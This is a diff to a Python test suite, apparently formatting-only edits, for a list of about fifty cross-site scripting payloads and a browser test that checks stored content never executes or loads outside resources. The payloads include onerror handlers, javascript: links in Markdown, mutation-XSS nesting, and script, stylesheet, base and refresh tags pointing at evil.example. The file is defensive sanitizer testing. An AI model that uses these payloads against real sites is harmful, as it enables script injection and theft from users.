@@ -23,7 +23,7 @@ PAYLOADS = [
     f"<script src=data:text/javascript,{HIT}></script>",
     "<script src=//evil.example/x.js></script>",
     f"<img src=x onerror={HIT}>",
-    f"<img src=x onerror=\"{HIT}\">",
+    f'<img src=x onerror="{HIT}">',
     f"<img/src=x/onerror={HIT}>",
     f"<img src='x' onerror='{HIT}'",
     f"<svg onload={HIT}>",
@@ -48,14 +48,17 @@ PAYLOADS = [
     f"<form action=javascript:{HIT}><button>x</button></form>",
     f"<button formaction=javascript:{HIT}>x</button>",
     f"<math><a xlink:href=javascript:{HIT}>x</a></math>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
+    (
+        "<math><mtext><table><mglyph><style><img src=x"
+        f" onerror={HIT}></style></mglyph></table></mtext></math>"
+    ),
     f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
     f"<template><script>{HIT}</script></template>",
     "<base href=//evil.example/>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>",
     "<link rel=stylesheet href=//evil.example/x.css>",
     "<style>@import '//evil.example/x.css';</style>",
-    "<div style=\"background:url(//evil.example/x)\">x</div>",
+    '<div style="background:url(//evil.example/x)">x</div>',
     f"<div style='width:expression({HIT})'>x</div>",
     f"[x](javascript:{HIT})",
     f"[x](JaVaScRiPt:{HIT})",
@@ -67,16 +70,16 @@ PAYLOADS = [
     f"<javascript:{HIT}>",
     f"![x](javascript:{HIT})",
     "![x](//evil.example/pixel.png)",
-    f"![x](x\"onerror=\"{HIT})",
-    f"[x](https://a.example/\"onclick=\"{HIT})",
+    f'![x](x"onerror="{HIT})',
+    f'[x](https://a.example/"onclick="{HIT})',
     f"[x][r]\n\n[r]: javascript:{HIT}",
     f"`<img src=x onerror={HIT}>`",
-    f"```\"><img src=x onerror={HIT}>\n</code></pre><script>{HIT}</script>\n```",
+    f'```"><img src=x onerror={HIT}>\n</code></pre><script>{HIT}</script>\n```',
     f"$<img src=x onerror={HIT}>$",
     f"$$\\frac{{<script>{HIT}</script>}}{{x}}$$",
     f"\\(^{{<img src=x onerror={HIT}>}}\\)",
     f"| a |\n|---|\n| <img src=x onerror={HIT}> |",
-    f"\"><script>{HIT}</script>",
+    f'"><script>{HIT}</script>',
     f"'-({HIT})-'",
     f"</textarea><script>{HIT}</script>",
     f"</title><script>{HIT}</script>",
@@ -86,7 +89,7 @@ PAYLOADS = [
     f"<![CDATA[<script>{HIT}</script>]]>",
     f"&lt;script&gt;{HIT}&lt;/script&gt;",
     f"\u2028<script>{HIT}</script>",
-]  # fmt: skip
+]
 
 
 def test_there_are_fifty_ways():
@@ -189,11 +192,13 @@ def test_nothing_that_is_stored_runs(tmp_path: Path, chromium: Any):
             page.wait_for_timeout(50)
             assert page.evaluate("window.hit") is None, page.url
             assert page.evaluate(
-                "[...document.querySelectorAll('script')].every((s) => s.src.startsWith(location.origin))"
+                "[...document.querySelectorAll('script')].every((s) =>"
+                " s.src.startsWith(location.origin))"
             )
             assert (
                 page.evaluate(
-                    "document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length"
+                    "document.querySelectorAll('iframe, object, embed, base, [onerror],"
+                    " [onload]').length"
                 )
                 == 0
             )
